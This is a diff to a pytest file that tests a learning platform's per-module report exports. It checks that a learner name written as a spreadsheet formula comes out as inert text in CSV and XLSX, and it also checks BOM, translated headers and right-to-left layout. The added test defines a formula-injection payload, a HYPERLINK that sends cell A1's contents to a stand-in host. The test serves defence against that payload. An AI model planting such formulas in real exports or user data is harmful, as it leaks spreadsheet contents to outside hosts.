@@ -1,6 +1,7 @@
 """Reports per module: figures, breakdowns, exports, and trainers limited to their modules."""
 
 import csv
+import datetime
 import io
 
 import pytest
@@ -75,3 +76,28 @@ def test_csv_and_xlsx_exports(module):
     sheet = load_workbook(io.BytesIO(response.content)).active
     assert sheet.max_row == 3 and {sheet.cell(row=r, column=1).value for r in (2, 3)} == {"أمينة", "يوسف"}
     assert client.get(f"/reports/{module.pk}/export.pdf").status_code == 404
+
+
+HOSTILE = '=HYPERLINK("http://x/?"&A1,"click")'
+
+
+def test_exports_defuse_a_hostile_learner_name_and_translate_headers(module):
+    """A learner whose name is a formula comes out as text: prefixed in the CSV, a string cell (not a
+    formula) in the XLSX; the CSV has a BOM and the headers follow the language of the address."""
+    enrolment_create(user=UserFactory(full_name=HOSTILE), course=module)
+    client = Client()
+    client.force_login(UserFactory(is_staff=True, is_superuser=True))
+    response = client.get(f"/reports/{module.pk}/export.csv")
+    assert response.content.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[0][:2] == ["الاسم", "البريد الإلكتروني"]
+    assert "'" + HOSTILE in [row[0] for row in rows]
+    french = list(csv.reader(io.StringIO(client.get(f"/fr/reports/{module.pk}/export.csv").content.decode("utf-8-sig"))))
+    assert french[0][:2] == ["Nom", "E-mail"]
+    sheet = load_workbook(io.BytesIO(client.get(f"/reports/{module.pk}/export.xlsx").content)).active
+    assert [c.value for c in sheet[1]][:2] == ["الاسم", "البريد الإلكتروني"] and sheet.sheet_view.rightToLeft
+    cell = next(row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == HOSTILE)
+    assert cell.data_type == "s"
+    assert isinstance(sheet.cell(row=2, column=10).value, datetime.datetime)  # enrolled at: a real date
+    french_sheet = load_workbook(io.BytesIO(client.get(f"/fr/reports/{module.pk}/export.xlsx").content)).active
+    assert french_sheet.cell(row=1, column=1).value == "Nom" and not french_sheet.sheet_view.rightToLeft
